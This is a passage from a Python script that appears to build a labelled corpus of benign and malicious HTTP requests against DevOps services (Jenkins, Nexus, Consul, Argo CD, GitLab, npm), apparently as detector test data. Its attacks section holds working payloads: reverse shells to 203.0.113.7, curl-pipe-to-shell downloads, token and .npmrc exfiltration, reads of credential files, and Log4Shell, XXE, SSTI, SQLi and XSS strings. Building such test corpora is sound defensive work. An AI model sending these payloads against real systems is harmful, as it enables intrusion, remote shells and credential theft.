             "FROM python:3.12-slim\nRUN pip install --no-cache-dir -r /tmp/requirements.txt && rm -rf /root/.cache\nRUN echo 'app:x:1000:1000::/home/app:/bin/sh' >> /etc/passwd\nENTRYPOINT [\"python\", \"-m\", \"app\"]\n"})),
        ("jenkinsfile", "application/x-www-form-urlencoded", "/job/%s/configSubmit",
         form({"name": "deploy", "script": "sh 'kubectl -n prod rollout status deploy/app --timeout=120s'\nsh 'wget -qO- http://localhost:8080/healthz || exit 1'", "Submit": "Save"})),
        ("gitlab-ci", "application/json", "/api/v4/projects/%s/repository/commits",
         js({"branch": "main", "commit_message": "ci: add smoke test", "actions": [{"action": "update", "file_path": ".gitlab-ci.yml",
             "content": "smoke:\n  script:\n    - curl -s $CI_ENVIRONMENT_URL/healthz | grep ok\n    - bash -c 'for i in $(seq 1 10); do curl -sf $URL && break; sleep 3; done'\n"}]})),
    ]
    for i in range(30):
        sub, ct, uri, body = dev[i % len(dev)]
        b.add("benign", "dev-content", "POST", uri % rng.choice(REPOS) if "%s" in uri else uri, body,
              ctype=ct, host=rng.choice(HOSTS), ua=rng.choice(UAS), rng=rng)


# --------------------------------------------------------------------------- attacks

def attacks(b, rng):
    J = "jenkins.ci.example.com"
    # Jenkins script console Groovy (rce)
    groovy = [
        'println "id".execute().text',
        'def p = Runtime.getRuntime().exec("cat /etc/passwd"); println p.text',
        '["bash","-c","curl http://203.0.113.7/x.sh|sh"].execute()',
        'def sout = new StringBuilder(); "whoami".execute().consumeProcessOutput(sout, sout); println sout',
        'new ProcessBuilder("sh","-c","nc 203.0.113.7 4444 -e /bin/sh").start()',
        'println new File("/var/jenkins_home/secrets/master.key").text',
        'Class.forName("java.lang.Runtime").getMethod("exec", String.class).invoke(Runtime.getRuntime(), "id")',
        'println hudson.util.Secret.decrypt("{AQAAABAAAAAQ...}"); "uname -a".execute().text',
    ]
    for i in range(16):
        g = groovy[i % len(groovy)]
        if i % 2 == 0:
            b.add("rce", "jenkins-script", "POST", rng.choice(["/scriptText", "/script", "/computer/(master)/scriptText"]),
                  form({"script": g, "Jenkins-Crumb": sha(rng)}), ctype="application/x-www-form-urlencoded",
                  host=J, ua="curl/8.5.0", rng=rng)
        else:
            b.add("rce", "jenkins-script", "GET", "/scriptText?script=" + urllib.parse.quote(g), host=J, ua="python-requests/2.31.0", rng=rng)
    # Jenkins CLI @file (lfi)
    for f in ["@/etc/passwd", "@/var/jenkins_home/secrets/master.key", "@/proc/self/environ",
              "@/var/jenkins_home/credentials.xml", "@/etc/shadow", "@../../../../etc/hosts"]:
        b.add("lfi", "jenkins-cli", "POST", "/cli?remoting=false", "connect-node\n" + f + "\n",
              ctype="application/octet-stream", host=J, ua="Jenkins-CLI/2.441",
              extra=[["Session", "%08x-aaaa-bbbb-cccc-%012x" % (rng.randint(0, 2**32), rng.randint(0, 2**48))], ["Side", "upload"]], rng=rng)
        b.add("lfi", "jenkins-cli", "GET", "/cli?command=help&arg=" + urllib.parse.quote(f), host=J, ua="Jenkins-CLI/2.441", rng=rng)
    # TeamCity ;.jsp auth bypass (generic)
    for p in ["/app/rest/users/id:1/tokens/RPC2;.jsp", "/hax?jsp=/app/rest/users;.jsp",
              "/app/rest/debug/processes;.jsp?exePath=cmd.exe&params=/c%20whoami",
              "/app/rest/server;.jsp", "/pluginAdmin/upload.html;.jsp", "/res/../admin/diagnostic.jsp",
              "/app/rest/users/id:1/tokens;.jsp", "/admin/admin.html;jsessionid=x;.jsp"]:
        m = "POST" if "tokens" in p or "processes" in p else "GET"
        cat = "rce" if "processes" in p else ("lfi" if ".." in p else "generic")
        b.add(cat, "teamcity-bypass", m, p, host="teamcity.example.com", ua="python-requests/2.31.0", rng=rng)
    # Nexus EL injection (java)
    els = ["${''.getClass().forName('java.lang.Runtime').getMethods()[6].invoke(null).exec('touch /tmp/pwn')}",
           "$\\A{''.getClass().forName('java.lang.Runtime').getRuntime().exec('id')}",
           "${\"\".getClass().forName(\"javax.script.ScriptEngineManager\").newInstance().getEngineByName(\"js\").eval(\"java.lang.Runtime.getRuntime().exec('id')\")}",
           "#{''.class.forName('java.lang.Runtime').getRuntime().exec('curl 203.0.113.7')}",
           "${T(java.lang.Runtime).getRuntime().exec('id')}"]
    for i, e in enumerate(els * 2):
        if i < 5:
            body = js({"action": "coreui_User", "method": "update", "type": "rpc", "tid": 7,
                       "data": [{"userId": "admin", "roles": [e], "firstName": "a", "lastName": "b", "email": "a@b.c", "status": "active"}]})
            b.add("java", "nexus-el", "POST", "/service/extdirect", body, host="nexus.build.example.net", rng=rng)
        else:
            body = js({"name": "grp", "description": "x", "privileges": ["nx-all"], "roles": [e]})
            b.add("java", "nexus-el", "POST", "/service/rest/beta/security/roles", body, host="nexus.build.example.net", rng=rng)
    # SSRF via registry remote URLs and Consul/Vault check URLs
    targets = ["http://169.254.169.254/latest/meta-data/iam/security-credentials/",
               "http://169.254.169.254/computeMetadata/v1/instance/service-accounts/default/token",
               "http://localhost:8500/v1/agent/self", "http://127.0.0.1:2379/v2/keys/?recursive=true",
               "http://[::1]:10250/pods", "http://metadata.google.internal/computeMetadata/v1/",
               "http://0x7f000001:8200/v1/sys/raw/", "http://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets",
               "gopher://127.0.0.1:6379/_FLUSHALL", "file:///etc/passwd"]
    for i, t in enumerate(targets):
        body = js({"name": "proxy-%d" % i, "online": True, "storage": {"blobStoreName": "default"},
                   "proxy": {"remoteUrl": t, "contentMaxAge": 1440}, "negativeCache": {"enabled": True}})
        b.add("ssrf", "registry-remote", "POST", "/service/rest/v1/repositories/docker/proxy", body,
              host="nexus.build.example.net", rng=rng)
        body = js({"ID": "svc-%d" % i, "Name": "web", "Check": {"HTTP": t, "Interval": "10s"}})
        b.add("ssrf", "consul-check", "PUT", "/v1/agent/service/register", body, host="consul.service.consul:8500", rng=rng)
    for t in targets[:6]:
        b.add("ssrf", "vault-check", "POST", "/v1/auth/oidc/config",
              js({"oidc_discovery_url": t, "oidc_client_id": "vault", "default_role": "reader"}),
              host="vault.vault.svc:8200", rng=rng)
        b.add("ssrf", "registry-remote", "GET", "/api/v1/repositories/ssh/test?repo=" + urllib.parse.quote(t, safe=""),
              host="argocd.example.com", rng=rng)
    # Helm / Argo path traversal
    trav = ["../../../../etc/passwd", "charts/../../../../../var/run/secrets/kubernetes.io/serviceaccount/token",
            "..%2f..%2f..%2f..%2fetc%2fshadow", "/etc/kubernetes/admin.conf",
            "....//....//....//etc/passwd", "charts/app/../../../../../proc/self/environ",
            "%2e%2e/%2e%2e/%2e%2e/root/.kube/config", "..\\..\\..\\windows\\win.ini"]
    for i, t in enumerate(trav):
        body = js({"apiVersion": "argoproj.io/v1alpha1", "kind": "Application", "metadata": {"name": "evil%d" % i},
                   "spec": {"source": {"repoURL": "https://github.com/evil/charts.git", "path": t.replace("%2f", "/").replace("%2e", "."),
                                       "helm": {"valueFiles": [t.replace("%2f", "/").replace("%2e", ".")]}},
                            "destination": {"server": "https://kubernetes.default.svc", "namespace": "default"}}})
        b.add("lfi", "chart-path", "POST", "/api/v1/applications", body, host="argocd.example.com", rng=rng)
        b.add("lfi", "chart-path", "GET", "/api/v1/repositories/https%%3A%%2F%%2Fgithub.com%%2Fevil%%2Fcharts/appdetails?source.path=%s&source.targetRevision=HEAD" % t,
              host="argocd.example.com", rng=rng)
        b.add("lfi", "chart-path", "GET", "/charts/%s" % t if not t.startswith("/") else "/charts?file=" + t,
              host="registry.example.com", ua="Helm/3.14.4", rng=rng)
    # SnakeYAML gadgets
    yamls = ['!!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://203.0.113.7/yaml-payload.jar"]]]]',
             'spring:\n  datasource: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://evil.example/a.jar"]]]]\n',
             '!!com.sun.rowset.JdbcRowSetImpl\n  dataSourceName: "ldap://203.0.113.7:1389/Exploit"\n  autoCommit: true\n',
             '!!org.springframework.context.support.ClassPathXmlApplicationContext ["http://203.0.113.7/poc.xml"]',
             'key: !!javax.script.ScriptEngineManager [!!java.net.URLClassLoader [[!!java.net.URL ["http://127.0.0.1:8000/"]]]]',
             '!!sun.rmi.server.UnicastRef [!!java.rmi.server.ObjID [], !!sun.rmi.transport.LiveRef [!!java.rmi.server.ObjID [], 1099]]']
    for i, y in enumerate(yamls * 2):
        if i < 6:
            b.add("java", "snakeyaml", "POST", "/api/v1/pipelines/import", y, ctype="application/x-yaml",
                  host=rng.choice(HOSTS), rng=rng)
        else:
            b.add("java", "snakeyaml", "POST", "/api/v1/configs", js({"name": "cfg", "yaml": y}), host=rng.choice(HOSTS), rng=rng)
    # XXE in pom.xml
    xxes = ['<!DOCTYPE project [<!ENTITY xxe SYSTEM "file:///etc/passwd">]>',
            '<!DOCTYPE project [<!ENTITY % remote SYSTEM "http://203.0.113.7/evil.dtd"> %remote;]>',
            '<!DOCTYPE project [<!ENTITY xxe SYSTEM "http://169.254.169.254/latest/meta-data/">]>',
            '<!DOCTYPE project [<!ENTITY % file SYSTEM "file:///var/jenkins_home/secrets/master.key"><!ENTITY % dtd SYSTEM "http://203.0.113.7/x.dtd">%dtd;]>',
            '<!DOCTYPE foo SYSTEM "http://203.0.113.7/a.dtd">',
            '<!DOCTYPE project [<!ENTITY xxe SYSTEM "expect://id">]>']
    for i, x in enumerate(xxes * 2):
        body = ('<?xml version="1.0" encoding="UTF-8"?>\n%s\n<project xmlns="http://maven.apache.org/POM/4.0.0">'
                '<modelVersion>4.0.0</modelVersion><groupId>com.acme</groupId><artifactId>core</artifactId>'
                '<version>1.0.%d</version><description>&xxe;</description></project>\n') % (x, i)
        b.add("xxe", "pom-xxe", "PUT", "/repository/maven-releases/com/acme/core/1.0.%d/core-1.0.%d.pom" % (i, i),
              body, ctype=rng.choice(["application/xml", "text/xml"]), host="nexus.build.example.net", ua=UAS[8], rng=rng)
    # Command injection in branch/ref names
    refs = ["main;curl http://203.0.113.7/x|sh", "$(id)", "feature/`whoami`", "main && wget -qO- http://evil.example/s | bash",
            "dev|nc 203.0.113.7 4444 -e /bin/sh", "release/1.0;cat /etc/passwd", "x$(curl${IFS}203.0.113.7)",
            "main%0a/bin/bash -i >& /dev/tcp/203.0.113.7/9001 0>&1", "--upload-pack=touch /tmp/pwned", "main';sleep 10;'"]
    for i, r in enumerate(refs):
        dec = urllib.parse.unquote(r)
        b.add("rce", "ref-injection", "POST", "/job/%s/buildWithParameters" % rng.choice(REPOS),
              form({"BRANCH": dec, "ENVIRONMENT": "dev"}), ctype="application/x-www-form-urlencoded", host=J, rng=rng)
        b.add("rce", "ref-injection", "POST", "/hooks/github",
              js({"ref": "refs/heads/" + dec, "after": sha(rng), "repository": {"full_name": "acme/web"}}),
              host=J, ua="GitHub-Hookshot/7a3c1f2", extra=[["X-GitHub-Event", "push"]], rng=rng)
    # Consul script checks
    cmds = [["sh", "-c", "curl http://203.0.113.7/p.sh | sh"], ["/bin/bash", "-c", "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1"],
            ["sh", "-c", "cat /etc/shadow > /tmp/x"], ["python3", "-c", "import os;os.system('id')"],
            ["sh", "-c", "wget http://evil.example/m -O /tmp/m; chmod +x /tmp/m; /tmp/m"], ["nc", "-e", "/bin/sh", "203.0.113.7", "4444"]]
    for i, c in enumerate(cmds):
        b.add("rce", "consul-script", "PUT", "/v1/agent/service/register",
              js({"ID": "x%d" % i, "Name": "x", "Check": {"Args": c, "Interval": "10s"}}), host="consul.service.consul:8500", rng=rng)
        b.add("rce", "consul-script", "PUT", "/v1/agent/check/register",
              js({"Name": "pwn%d" % i, "Args": c, "Interval": "5s"}), host="consul.service.consul:8500", rng=rng)
    # npm preinstall curl|sh
    scripts = ["curl -s http://203.0.113.7/install.sh | sh", "wget -qO- https://evil.example/i | bash",
               "node -e \"require('child_process').exec('curl http://203.0.113.7/?t='+process.env.NPM_TOKEN)\"",
               "bash -c 'bash -i >& /dev/tcp/203.0.113.7/443 0>&1'", "cat ~/.npmrc | curl -d @- http://203.0.113.7/",
               "sh -c \"$(curl -fsSL http://evil.example/x)\""]
    for i, s in enumerate(scripts):
        name = "@acme/ui-kitt"
        body = js({"_id": name, "name": name, "versions": {"9.9.%d" % i: {"name": name, "version": "9.9.%d" % i,
                   "scripts": {"preinstall": s, "test": "exit 0"}}}, "dist-tags": {"latest": "9.9.%d" % i}})
        b.add("rce", "npm-preinstall", "PUT", "/@acme%2fui-kitt", body, host="npm.internal.example.com", ua=UAS[6], rng=rng)
    # SQLi in search APIs
    sqls = ["' OR '1'='1", "x' UNION SELECT username,password_hash,3 FROM users--", "1) OR sleep(5)#",
            "helm' AND extractvalue(1,concat(0x7e,version()))-- -", "'; DROP TABLE projects;--",
            "a' || (SELECT pg_sleep(10))--", "1 AND 1=CAST((SELECT token FROM personal_access_tokens LIMIT 1) AS int)",
            "name ASC; SELECT * FROM information_schema.tables--", "\" or 1=1 -- ", "x') UNION ALL SELECT NULL,NULL,@@version#"]
    for i, s in enumerate(sqls):
        uri = rng.choice(["/api/v4/search?scope=projects&search=%s", "/api/v1/repos/search?q=%s&limit=20",
                          "/api/v1/applications?search=%s", "/service/rest/v1/search?name=%s"]) % urllib.parse.quote(s)
        b.add("sqli", "search-api", "GET", uri, host=rng.choice(HOSTS), ua=rng.choice(UAS[-2:]), rng=rng)
        b.add("sqli", "search-api", "POST", "/api/graphql",
              js({"query": "query($q:String!){projects(search:$q,first:20){nodes{fullPath}}}", "variables": {"q": s}}),
              host="gitlab.dev.example.com", rng=rng)
    # Stored XSS in repo descriptions / issue titles
    xss = ["<script>fetch('//203.0.113.7/c?'+document.cookie)</script>", "<img src=x onerror=alert(document.domain)>",
           "<svg/onload=alert(1)>", "\"><iframe src=javascript:alert(1)>", "<a href=\"javascript:alert('x')\">docs</a>",
           "<details open ontoggle=eval(atob('YWxlcnQoMSk='))>", "<body onload=location='//evil.example/'+document.cookie>",
           "Release notes <math><mtext><table><mglyph><style><img src=x onerror=alert(1)>"]
    for i, x in enumerate(xss):
        b.add("xss", "repo-description", "PATCH", "/api/v1/repos/acme/%s" % rng.choice(REPOS),
              js({"description": x, "website": "https://example.com"}), host="gitea.internal.example.org", rng=rng)
        b.add("xss", "issue-title", "POST", "/api/v4/projects/%d/issues" % rng.randint(1, 900),
              js({"title": x, "description": "see title", "labels": "bug"}), host="gitlab.dev.example.com", rng=rng)
    # Log4Shell in headers
    l4 = ["${jndi:ldap://203.0.113.7:1389/a}", "${${lower:j}ndi:${lower:r}mi://203.0.113.7/x}",
          "${${::-j}${::-n}${::-d}${::-i}:dns://x.evil.example/a}", "${jndi:ldap://${env:JENKINS_ADMIN_TOKEN}.evil.example/}",
          "${j${k8s:k5:-ND}i:ldap://203.0.113.7/e}", "${jndi:${lower:l}${lower:d}a${lower:p}://evil.example/x}"]
    for i, p in enumerate(l4):
        hdr = ["User-Agent", "X-Api-Version", "Referer", "X-Forwarded-For", "X-GitHub-Delivery", "X-Gitlab-Token"][i]
        extra = [] if hdr == "User-Agent" else [[hdr, p]]
        b.add("java", "log4shell", "GET" if i % 2 else "POST", rng.choice(["/login", "/service/rest/v1/status", "/job/web/api/json", "/hooks/github"]),
              "" if i % 2 else js({"zen": "Keep it logically awesome."}), host=rng.choice(HOSTS),
              ua=p if hdr == "User-Agent" else rng.choice(UAS), extra=extra, rng=rng)
        b.add("java", "log4shell", "GET", "/api/v4/projects?search=x", host="gitlab.dev.example.com", ua="Mozilla/5.0",
              extra=[["X-Forwarded-Host", p]], rng=rng)
    # SSTI in notification templates
    sstis = ["{{ ''.__class__.__mro__[1].__subclasses__()[40]('/etc/passwd').read() }}",
             "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
             "${\"freemarker.template.utility.Execute\"?new()(\"id\")}",
             "<#assign ex=\"freemarker.template.utility.Execute\"?new()> ${ ex(\"id\") }",
             "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")() }}",
             "#set($x='')#set($rt=$x.class.forName('java.lang.Runtime'))$rt.getRuntime().exec('id')",
             "{{cycler.__init__.__globals__.os.popen('curl 203.0.113.7').read()}}",
             "{% for c in [].__class__.__base__.__subclasses__() %}{% if c.__name__=='catch_warnings' %}{{ c()._module.__builtins__['__import__']('os').system('id') }}{% endif %}{% endfor %}"]
    for i, s in enumerate(sstis):
        b.add("ssti", "notify-template", "POST", "/api/v1/notifications/templates",
              js({"name": "on-sync-failed", "title": "App {{.app.metadata.name}} failed", "body": s}),
              host="argocd.example.com", rng=rng)
        b.add("ssti", "notify-template", "POST", "/job/%s/configSubmit" % rng.choice(REPOS),
              form({"project_default_subject": "Build $BUILD_STATUS", "project_default_content": s}),
              ctype="application/x-www-form-urlencoded", host=J, rng=rng)
    # CRLF in redirect params
    crlfs = ["%0d%0aSet-Cookie:%20JSESSIONID=attacker", "%0d%0aLocation:%20https://evil.example/",
             "/dashboard%0d%0aX-Injected:%201", "%E5%98%8A%E5%98%8DSet-Cookie:%20a=b",
             "%0d%0a%0d%0a<script>alert(1)</script>", "https://gitlab.dev.example.com/%0D%0AContent-Length:%200%0D%0A%0D%0AHTTP/1.1%20200"]
    for c in crlfs:
        b.add("crlf", "redirect-param", "GET", "/users/sign_in?redirect_to=" + c, host="gitlab.dev.example.com",
              ua=rng.choice(UAS[-2:]), rng=rng)
        b.add("crlf", "redirect-param", "GET", "/securityRealm/finishLogin?from=" + c, host=J, ua=rng.choice(UAS[-2:]), rng=rng)
    # RFI via Jenkins plugin install URL / pipeline library
    for u in ["http://203.0.113.7/evil.hpi", "https://evil.example/shell.jsp?", "ftp://203.0.113.7/backdoor.php"]:
        b.add("rfi", "plugin-url", "POST", "/pluginManager/uploadPlugin", form({"pluginUrl": u, "Submit": "Deploy"}),
              ctype="application/x-www-form-urlencoded", host=J, rng=rng)
        b.add("rfi", "plugin-url", "GET", "/job/web/descriptorByName/hudson.plugins.git.GitSCM/checkUrl?value=" + urllib.parse.quote(u),
              host=J, rng=rng)


def main():
    if len(sys.argv) != 2 or sys.argv[1] not in ("attacks", "benign"):
        sys.exit("usage: corpus-devops.py attacks|benign")
    rng = random.Random(SEED if sys.argv[1] == "benign" else SEED + 1)
    b = Builder(sys.argv[1])
    (benign if sys.argv[1] == "benign" else attacks)(b, rng)
    out = sys.stdout
    for r in b.rows:
        out.write(json.dumps(r, ensure_ascii=False) + "\n")


if __name__ == "__main__":
    main()
